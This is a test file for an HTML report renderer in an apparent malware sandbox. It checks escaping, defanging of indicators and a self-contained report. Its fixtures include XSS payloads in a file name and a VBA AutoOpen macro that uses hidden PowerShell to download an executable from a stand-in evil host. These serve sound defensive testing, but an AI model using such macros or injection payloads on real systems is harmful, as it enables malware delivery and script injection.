import { buildReportDocument, ReportDocument } from '../../modules/reports/report-document';
import { digests } from '../hashing/digests';
import { identify } from '../identify/identify';
import { verdictOf } from '../signals/scoring';
import { FileReport, IocType, SignalHit, Verdict } from '../types';
import type { ExportSubject } from './export-subject';
import { attackUrl, defang, defangText, displayName, esc, renderHtmlReport } from './html';

const HOSTILE_NAME = `"><script>alert(1)</script><img src=x onerror='alert(2)'>.js`;
const MACRO = `Sub AutoOpen()\n  Shell "powershell -w hidden -c iwr http://evil.example.com/p.exe"\nEnd Sub </textarea><script>x()</script>`;

function file(index: number, name: string, content: string, extra: Partial<FileReport> = {}): FileReport {
  const data = Buffer.from(content);
  return {
    index,
    parentIndex: index === 0 ? null : 0,
    relation: index === 0 ? null : 'archive-member',
    name,
    path: index === 0 ? [name] : ['bundle.zip', name],
    depth: index === 0 ? 0 : 1,
    size: data.length,
    identity: identify(data),
    digests: digests(data),
    resources: {},
    signals: [],
    iocs: [],
    tags: [],
    issues: [],
    analyzers: ['hashes'],
    verdict: verdictOf(Verdict.NoThreat, 0.5),
    data,
    ...extra,
  };
}

function subject(): { subject: ExportSubject; root: FileReport; child: FileReport } {
  const signals: SignalHit[] = [
    { id: 'script.emulation.download', evidence: ['MSXML2.XMLHTTP.open: GET http://evil.example.com/p.exe'] },
    { id: 'yara.match', verdict: Verdict.Malicious, strength: 0.95, evidence: [MACRO], description: 'Matched rule <Evil_Macro>' },
  ];
  const child = file(1, HOSTILE_NAME, 'var x = new ActiveXObject("MSXML2.XMLHTTP");', {
    signals,
    verdict: verdictOf(Verdict.Malicious, 0.95),
    iocs: [
      { type: IocType.Url, value: 'http://evil.example.com/p.exe?a="<b>', origins: ['emulation'] },
      { type: IocType.Domain, value: 'evil.example.com', origins: ['emulation'] },
      { type: IocType.Ip, value: '203.0.113.7', origins: ['strings'] },
    ],
    resources: {
      emulation: { engine: 'isolated-vm', environment: 'wsh', outcome: 'completed', actions: 2 },
      emulationData: [
        { api: 'MSXML2.XMLHTTP.open', args: ['GET', 'http://evil.example.com/p.exe'], category: 'network' },
        { api: 'WScript.Shell.Run', args: ['cmd /c "<calc>"'], category: 'process' },
      ],
    },
    issues: [{ analyzer: 'yara', kind: 'timeout', message: 'budget of 5000 ms exceeded' }],
  });
  const root = file(0, 'bundle.zip', 'PK fake archive bytes', {
    verdict: verdictOf(Verdict.Malicious, 0.95),
    signals: [{ id: 'archive.encrypted', evidence: ['password "infected"'] }],
    resources: { pe: { imphash: 'f34d5f2d4577ed6d9ceec516c1f5a744', authentihash: null } },
  });
  const ctx = { flowId: '7a0c2d8e-1111-4222-8333-944455556666', createdAt: new Date('2026-12-01T10:00:00Z'), processTimeMs: 10, scanOptions: {} };
  const rootDoc = buildReportDocument(root, { ...ctx, id: '0f6b3a52-0000-4000-8000-000000000001', parentId: null, children: [{ reportId: '0f6b3a52-0000-4000-8000-000000000002', report: child }] });
  const childDoc = buildReportDocument(child, { ...ctx, id: '0f6b3a52-0000-4000-8000-000000000002', parentId: rootDoc.id, children: [] });
  return {
    root,
    child,
    subject: {
      report: rootDoc,
      descendants: [childDoc],
      isPrivate: true,
      generatedAt: new Date('2026-12-05T17:30:00Z'),
      producer: { name: 'Sandbox <Platform>', url: 'https://sandbox.example.com' },
    },
  };
}

/** The visible text of a document: tags removed, entities decoded. */
const textOf = (html: string) =>
  html
    .replace(/<style>[\s\S]*?<\/style>/g, '')
    .replace(/<[^>]+>/g, ' ')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&#96;/g, '`')
    .replace(/&amp;/g, '&');

describe('renderHtmlReport', () => {
  it('puts the verdict, its badge and the threat level up front', () => {
    const { subject: s } = subject();
    const html = renderHtmlReport(s);
    const header = html.slice(html.indexOf('<header'), html.indexOf('</header>'));
    expect(header).toContain('<div class="badge v-malicious" data-verdict="MALICIOUS">Malicious</div>');
    expect(header).toContain('<dt>Verdict</dt><dd>MALICIOUS</dd>');
    expect(header).toContain('<dt>Threat level</dt><dd>1.00</dd>');
    expect(header).toContain('<dt>Extracted files</dt><dd>1</dd>');
    expect(html).toContain('<title>Sandbox report: bundle.zip (Malicious)</title>');
  });

  it('lists the file facts with every digest the report has', () => {
    const { subject: s, root } = subject();
    const html = renderHtmlReport(s);
    expect(html).toContain(`<tr><th scope="row">SHA-256</th><td><code class="hash">${root.digests.sha256}</code></td></tr>`);
    expect(html).toContain(`<tr><th scope="row">MD5</th><td><code class="hash">${root.digests.md5}</code></td></tr>`);
    expect(html).toContain(`<tr><th scope="row">ssdeep</th><td><code class="hash">${root.digests.ssdeep}</code></td></tr>`);
    expect(html).toContain('<tr><th scope="row">imphash</th><td><code class="hash">f34d5f2d4577ed6d9ceec516c1f5a744</code></td></tr>');
    // A digest the file does not have leaves no empty row.
    expect(html).not.toContain('<th scope="row">Authentihash</th>');
    expect(html).toContain(`<tr><th scope="row">Size</th><td>${root.size} bytes</td></tr>`);
  });

  it('shows signal groups with their evidence and links each ATT&CK technique', () => {
    const html = renderHtmlReport(subject().subject);
    expect(html).toContain('<a class="technique" href="https://attack.mitre.org/techniques/T1105/" title="Ingress Tool Transfer">T1105</a>');
    expect(html).toContain('<a class="technique" href="https://attack.mitre.org/techniques/T1071/001/" title="Application Layer Protocol: Web Protocols">T1071.001</a>');
    expect(html).toContain('<a class="technique" href="https://attack.mitre.org/techniques/T1027/013/"');
    expect(html).toContain('data-signal="script.emulation.download"');
    expect(html).toContain('<code>MSXML2.XMLHTTP.open: GET hxxp://evil[.]example[.]com/p[.]exe</code>');
  });

  it('defangs indicators in the text and keeps the exact value in data-raw', () => {
    const html = renderHtmlReport(subject().subject);
    expect(html).toContain(`<code class="ioc" data-raw="http://evil.example.com/p.exe?a=&quot;&lt;b&gt;">hxxp://evil[.]example[.]com/p[.]exe?a=&quot;&lt;b&gt;</code>`);
    expect(html).toContain('<code class="ioc" data-raw="evil.example.com">evil[.]example[.]com</code>');
    expect(html).toContain('<code class="ioc" data-raw="203.0.113.7">203[.]0[.]113[.]7</code>');
    // No live URL anywhere in the visible text: only the ATT&CK and producer links are real.
    expect(textOf(html)).not.toMatch(/\bhttps?:\/\/evil/);
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
    expect(hrefs.every((h) => h.startsWith('https://attack.mitre.org/') || h === 'https://sandbox.example.com')).toBe(true);
  });

  it('escapes every value from the sample: names, evidence, macro text, emulated calls', () => {
    const html = renderHtmlReport(subject().subject);
    // The only tags are the renderer's own: no script element, no event handler attribute, nothing external.
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    const tags = [...html.matchAll(/<[a-z][^>]*>/gi)].map((m) => m[0]);
    expect(tags.filter((tag) => /\son\w+\s*=/i.test(tag))).toEqual([]);
    expect(html).not.toMatch(/<textarea/i);
    expect(html).toContain(esc(HOSTILE_NAME));
    expect(html).toContain('&lt;/textarea&gt;&lt;script&gt;x()&lt;/script&gt;');
    expect(html).toContain('Matched rule &lt;Evil_Macro&gt;');
    expect(html).toContain('<code>cmd /c &quot;&lt;calc&gt;&quot;</code>');
    expect(html).toContain('Produced by <a href="https://sandbox.example.com">Sandbox &lt;Platform&gt;</a>');
    // The text a reader sees is the original.
    expect(textOf(html)).toContain(HOSTILE_NAME);
  });

  it('shows the extracted files as a tree with their verdicts, emulation findings and issues', () => {
    const { subject: s, child } = subject();
    const html = renderHtmlReport(s);
    const tree = html.slice(html.indexOf('<section id="files">'), html.indexOf('</section>', html.indexOf('<section id="files">')));
    expect(tree).toContain(`<li><span class="badge small v-malicious">Malicious</span> <strong>${esc(HOSTILE_NAME)}</strong>`);
    expect(tree).toContain(`<code class="small">${child.digests.sha256}</code>`);
    expect(html).toContain('<td><code>MSXML2.XMLHTTP.open</code></td><td><code>GET</code> <code>hxxp://evil[.]example[.]com/p[.]exe</code></td>');
    expect(html).toContain('environment wsh · outcome completed · 2 recorded action(s)');
    expect(html).toContain(`<tr class="issue-timeout"><td>bundle.zip/${esc(HOSTILE_NAME)}</td><td>yara</td><td>timeout</td><td>budget of 5000 ms exceeded</td></tr>`);
  });

  it('marks private reports TLP:AMBER and public ones TLP:CLEAR, and names the producer and time', () => {
    const { subject: s } = subject();
    expect(renderHtmlReport(s)).toContain('<div class="tlp tlp-amber">TLP:AMBER</div>');
    const html = renderHtmlReport({ ...s, isPrivate: false });
    expect(html).toContain('<div class="tlp tlp-clear">TLP:CLEAR</div>');
    expect(html).toContain('on 2026-12-05 17:30:00 UTC.');
  });

  it('is self-contained: no script, no external resource, a CSP that forbids loading, print CSS for A4', () => {
    const html = renderHtmlReport(subject().subject);
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"`);
    expect(html).not.toMatch(/<link|<iframe|<object|<embed|@import|url\(/i);
    expect(html).toContain('@page{size:A4;');
  });

  it('says so when nothing was found', () => {
    const clean = file(0, 'notes.txt', 'hello');
    const doc: ReportDocument = buildReportDocument(clean, { id: 'r', flowId: 'f', parentId: null, createdAt: new Date(0), processTimeMs: 1, scanOptions: {}, children: [] });
    const html = renderHtmlReport({ report: doc, descendants: [], isPrivate: false, generatedAt: new Date(0), producer: { name: 'P' } });
    expect(html).toContain('<div class="badge v-no-threat" data-verdict="NO_THREAT">No threat</div>');
    expect(html).toContain('No signal fired on this file.');
    expect(html).toContain('No indicator was found.');
    expect(html).toContain('No file was extracted.');
    expect(html).toContain('Every analyzer completed.');
    expect(html).not.toContain('id="emulation"');
  });
});

describe('html helpers', () => {
  it('defangs by indicator type', () => {
    expect(defang('url', 'https://a.b.example/x.php')).toBe('hxxps://a[.]b[.]example/x[.]php');
    expect(defang('url', 'ftp://files.example/a')).toBe('fxp://files[.]example/a');
    expect(defang('email', 'boss@corp.example')).toBe('boss[@]corp[.]example');
    expect(defang('sha256', 'ab.cd')).toBe('ab.cd');
    expect(defangText('get http://x.example/a and HTTPS://y.example')).toBe('get hxxp://x[.]example/a and hxxps://y[.]example');
  });

  it('shows bidi overrides and control characters instead of obeying them', () => {
    expect(displayName('invoice\u202Efdp.exe')).toBe('invoice[U+202E]fdp.exe');
    expect(displayName('a\u0000b\nc')).toBe('a[U+0000]b[U+000A]c');
  });

  it('links only well-formed technique ids', () => {
    expect(attackUrl('T1059.001')).toBe('https://attack.mitre.org/techniques/T1059/001/');
    expect(attackUrl('T1059')).toBe('https://attack.mitre.org/techniques/T1059/');
    expect(attackUrl('javascript:alert(1)')).toBe('https://attack.mitre.org/');
  });
});
